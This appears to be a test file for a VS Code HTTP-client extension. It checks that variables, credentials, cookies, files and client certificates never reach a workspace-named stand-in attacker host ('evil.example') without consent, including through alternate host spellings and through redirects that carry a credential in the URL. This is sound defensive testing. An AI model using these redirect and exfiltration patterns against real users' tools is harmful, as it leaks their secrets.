/**
 * What leaves the machine from VS Code where a workspace names the host, and the user agrees to nothing: the table of
 * spellings and ways. Whatever name is looked up leads to another address than the user's own server, where all is noted.
 */
import dns from 'node:dns';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import http from 'node:http';
import https from 'node:https';
import type { AddressInfo, Server } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import type { TLSSocket } from 'node:tls';
import { createCookieJar } from '@endpoint-atlas/engine/node';
import { type RequestValues, readHttpFile, startRun, userRow } from '@endpoint-atlas/engine/requests';
import { afterAll, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import { spellings } from '../../engine/src/client/send/http/spellings.fixture.ts';
import { askAboutOrigin, type OriginQuestion } from '../src/calls/ask-about-origin.ts';
import { createHosts } from '../src/calls/hosts.ts';
import { endpoint, start, valuesFor } from '../src/calls/sender.fixture.ts';
import { createTlsReader } from '../src/calls/tls-files.ts';
import { type FileRunContext, fileItem } from '../src/http-files/file-items.ts';
import { machine } from './machine.fixture.ts';

const { questions, answer, settings } = vi.hoisted(() => ({
  questions: [] as string[],
  answer: { agrees: false },
  settings: {
    ...{ allowedHosts: [], clientCertificates: {}, followRedirects: true, hosts: [], hostHistory: 5 },
    ...{ timeoutMs: 10_000, maxMessageBytes: 1_024, maxBodyBytes: 100_000, trustedCertificates: {} },
    unverifiedHosts: [] as string[],
  },
}));
vi.mock('vscode', () => ({
  Uri: { joinPath: ({ fsPath }: { fsPath: string }, to: string) => ({ fsPath: path.join(fsPath, to) }) },
  window: {
    async showWarningMessage(message: string, { detail }: { detail: string }) {
      questions.push(`${message} ${detail}`);
      return answer.agrees ? 'Send' : undefined;
    },
  },
  workspace: {
    isTrusted: true,
    asRelativePath: () => 'a.http',
    getWorkspaceFolder: () => undefined,
  },
}));
vi.mock('../src/settings/settings.ts', () => ({ readSettings: () => settings }));

const name = 'evil.example';
/** All that arrived elsewhere, and the certificates that were shown there. */
const stolen: string[] = [];
const arrivedHere: string[] = [];
let redirect = '';
const servers: (Server & { closeAllConnections(): void })[] = [];
const ports = { here: 0, plain: 0, secure: 0, own: 0 };
let folder: string;

const pem = (file: string) =>
  readFileSync(path.join(import.meta.dirname, '../../../fixtures/send', `${file}.pem`));

async function listen(server: http.Server, address: string): Promise<number> {
  servers.push(server);
  await new Promise<void>((resolve) => server.listen(0, address, resolve));
  return (server.address() as AddressInfo).port;
}

async function record(request: http.IncomingMessage, response: http.ServerResponse): Promise<void> {
  let text = `${request.method} ${request.url} ${request.rawHeaders.join(' ')}`;
  for await (const chunk of request) text += String(chunk);
  stolen.push(text);
  response.end('ok');
}

beforeAll(async () => {
  folder = mkdtempSync(path.join(tmpdir(), 'endpoint-atlas-elsewhere-'));
  mkdirSync(path.join(folder, 'work'));
  writeFileSync(path.join(folder, 'work/body.json'), 'canary-file');
  ports.here = await listen(
    http.createServer((request, response) => {
      arrivedHere.push(request.url ?? '');
      // As bytes: Node would not write them all into a header.
      const head = `HTTP/1.1 307 Moved\r\nLocation: ${redirect}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n`;
      request.resume().on('end', () => response.socket?.end(head));
    }),
    '127.0.0.1',
  );
  ports.plain = await listen(http.createServer(record), '127.0.0.2');
  const options = { key: pem('self-signed.key'), cert: pem('self-signed'), requestCert: true };
  const secure = https.createServer({ ...options, rejectUnauthorized: false }, record);
  secure.on('secureConnection', (socket: TLSSocket) => {
    const { subject } = socket.getPeerCertificate();
    if (subject !== undefined) stolen.push(`the certificate of ${subject.CN}`);
  });
  ports.secure = await listen(secure, '127.0.0.2');
  // Elsewhere is where every name leads; no name server is asked.
  vi.spyOn(dns, 'lookup').mockImplementation(((
    _name: string,
    options: dns.LookupOptions,
    callback: unknown,
  ) => {
    const found = options.all ? [[{ address: '127.0.0.2', family: 4 }]] : ['127.0.0.2', 4];
    queueMicrotask(() => (callback as (...found: unknown[]) => void)(null, ...found));
  }) as never);
});
afterAll(() => {
  vi.restoreAllMocks();
  for (const server of servers) {
    server.closeAllConnections();
    server.close();
  }
  rmSync(folder, { recursive: true });
});
beforeEach(() => {
  for (const list of [questions, stolen, arrivedHere]) list.length = 0;
  answer.agrees = false;
  settings.unverifiedHosts = [];
});

const spelled = () => spellings(`${name}:${ports.plain}`, '127.0.0.1');
/** The same with TLS, which only these schemes can become. */
const securely = () =>
  spellings(`${name}:${ports.secure}`, '127.0.0.1').flatMap(([how, url]) =>
    /^https?:/i.test(url) ? [[how, url.replace(/^http/i, 'https')] as const] : [],
  );

function agreements() {
  const agreed: string[] = [];
  return { agreedOrigins: () => agreed, agreeToOrigin: (origin: string) => void agreed.push(origin) };
}

/** The user's own: a variable, credentials, a cookie of the host, a certificate of another host. */
const own = { token: 'canary-variable' };
const credentials = { kind: 'bearer', token: 'canary-credentials' } as const;
function jarOfElsewhere() {
  const jar = createCookieJar();
  jar.store(`http://${name}:${ports.plain}/`, ['sid=canary-cookie']);
  jar.store(`https://${name}:${ports.secure}/`, ['sid=canary-cookie']);
  return jar;
}
function certificates() {
  const host = answer.agrees ? name : 'mine.example';
  const files = { cert: 'self-signed.pem', key: 'self-signed.key.pem' };
  return createTlsReader({
    settings: () => ({
      certificateAuthorities: [],
      clientCertificates: { [`${host}:${ports.secure}`]: files },
    }),
    folder: () => path.join(import.meta.dirname, '../../../fixtures/send'),
    secrets: machine().places().secrets,
    askPassphrase: async () => undefined,
  });
}

type Carried = 'variable' | 'credentials' | 'cookie' | 'file' | 'certificate';
const carried: readonly Carried[] = ['variable', 'credentials', 'cookie', 'file', 'certificate'];

/** Sends from the dashboard to a host that the environment of the workspace names. */
async function fromDashboard(host: string, what: Carried): Promise<void> {
  const resolverFor = () => (variable: string) => (variable === 'baseUrl' ? host : undefined);
  const environment = { valuesFor: () => ({ baseUrl: host }), resolverFor };
  const hosts = createHosts(
    machine().places().storage,
    () => settings,
    () => true,
    environment,
  );
  const reader = certificates();
  const { sender } = start({
    own,
    jar: what === 'cookie' ? jarOfElsewhere() : createCookieJar(),
    ...(what === 'credentials' && { auth: credentials, credentials: { kind: 'credentials', credentials } }),
    parts: {
      hosts,
      folderOf: () => path.join(folder, 'work'),
      settings: () => settings,
      readTls: reader.read,
      askAboutOrigin: (question: OriginQuestion) => askAboutOrigin(question, hosts),
    },
  });
  const changes: Readonly<Record<Carried, Partial<RequestValues>>> = {
    variable: { contentType: 'text/plain', body: '{{token}}' },
    file: { contentType: 'multipart/form-data', form: [{ ...userRow('f', 'body.json'), type: 'file' }] },
    ...{ credentials: {}, cookie: {}, certificate: {} },
  };
  const post = { ...endpoint, method: 'POST' };
  await sender.send(post, { ...valuesFor(post, host), params: [], ...changes[what] });
}

/** Sends a request of an `.http` file of the workspace. */
async function fromFile(url: string, what: Carried): Promise<void> {
  const texts: Readonly<Record<Carried, string>> = {
    variable: `POST ${url}\n\n{{token}}`,
    credentials: `GET ${url}`,
    cookie: `GET ${url}`,
    file: `POST ${url}\n\n< ./body.json`,
    certificate: `GET ${url}`,
  };
  const uri = { fsPath: path.join(folder, 'work/a.http'), toString: () => 'file:///a.http' };
  const jar = what === 'cookie' ? jarOfElsewhere() : createCookieJar();
  const parts = {
    userAgent: 'Test/1',
    environments: { values: () => own, ownNames: () => new Set(Object.keys(own)) },
    cookies: { active: () => jar, changed() {} },
    hosts: agreements(),
    auth: { ofEnvironment: () => (what === 'credentials' ? credentials : undefined) },
    signIn: { credentialsFor: async () => ({ kind: 'credentials', credentials }) },
    tls: certificates(),
    record() {},
    async showResponse() {},
  };
  const content = readHttpFile(texts[what]);
  for (const request of content.requests) {
    const opened = { uri, content };
    await fileItem(request, opened as never, startRun(), parts as unknown as FileRunContext).send();
  }
}

/** A server knows what it was sent, and can put it into an address. */
const redirectTo = (url: string, what: Carried) =>
  what === 'credentials' ? `${url}?c=canary-credentials` : url;

const ways: Readonly<Record<string, (url: string, what: Carried) => Promise<void>>> = {
  dashboard: fromDashboard,
  'an .http file': fromFile,
  async 'a redirect from the dashboard'(url, what) {
    redirect = redirectTo(url, what);
    await fromDashboard(`http://127.0.0.1:${ports.here}`, what);
  },
  async 'a redirect from an .http file'(url, what) {
    redirect = redirectTo(url, what);
    await fromFile(`http://127.0.0.1:${ports.here}/x`, what);
  },
};
const words: Readonly<Record<Carried, string>> = {
  variable: '{{token}}',
  credentials: 'credentials of Auth|your environment',
  cookie: 'the cookies sid',
  file: 'the file (?:\\./)?body\\.json',
  certificate: '',
};

describe.each(Object.entries(ways))('S1: by %s', (_way, send) => {
  const canaries = () => stolen.filter((text) => /canary|^the certificate/.test(text));

  it.each(carried)('no %s leaves the machine, however the host is spelled', async (what) => {
    for (const [how, url] of [...spelled(), ...securely()]) {
      settings.unverifiedHosts = [`${name}:${ports.secure}`];
      await send(url, what);
      expect([how, url, canaries()]).toEqual([how, url, []]);
    }
  });

  it.each(carried)('a question names the %s, and who agrees sends it', async (what) => {
    answer.agrees = true;
    settings.unverifiedHosts = [`${name}:${ports.secure}`];
    const isSecure = what === 'certificate';
    await send(isSecure ? `https://${name}:${ports.secure}/x` : `http://${name}:${ports.plain}/x`, what);
    // Certificates go to the host that the user's settings name for them.
    if (!isSecure) {
      expect(questions).toHaveLength(1);
      expect(questions[0]).toMatch(new RegExp(`${name}:${ports.plain}\\?.*(?:${words[what]})`));
    }
    expect(canaries()).toHaveLength(1);
  });
});
